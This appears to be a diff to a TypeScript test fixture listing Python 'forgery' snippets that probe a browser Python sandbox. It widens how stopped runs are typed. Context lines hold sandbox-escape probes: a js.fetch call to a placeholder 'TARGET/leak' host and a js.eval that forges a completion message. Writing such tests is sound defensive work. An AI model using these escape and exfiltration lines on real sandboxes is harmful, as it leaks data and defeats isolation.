@@ -99,7 +99,8 @@ export interface Forgery {
   readonly language: Language;
   readonly code: string;
   readonly gives?: Result;
-  readonly stopped?: readonly string[];
+  /** How the run may have been stopped; undefined where it may also end by itself. */
+  readonly stopped?: readonly (string | undefined)[];
 }
 
 const honest = (value: number): Result => ({ output: '', outcomes: [{ ok: true, value }] });
@@ -270,7 +271,7 @@ export const FORGERIES: readonly Forgery[] = [
       error: { message: 'OverflowError: overflow converting long int to machine word', line: 1 },
     },
   }),
-  py('a result without end', 'def f(x):\n  while True: yield 1', {}),
+  py('a result without end', 'def f(x):\n  while True: yield 1', { stopped: ['time', undefined] }),
   py('output without end', 'while True: print("line")', { stopped: ['output'] }),
   py('the page through import js', 'import js\njs.fetch("http://TARGET/leak")', {}),
   py('evaluation through import js', 'import js\njs.eval("postMessage({kind:\'done\'})")', {}),
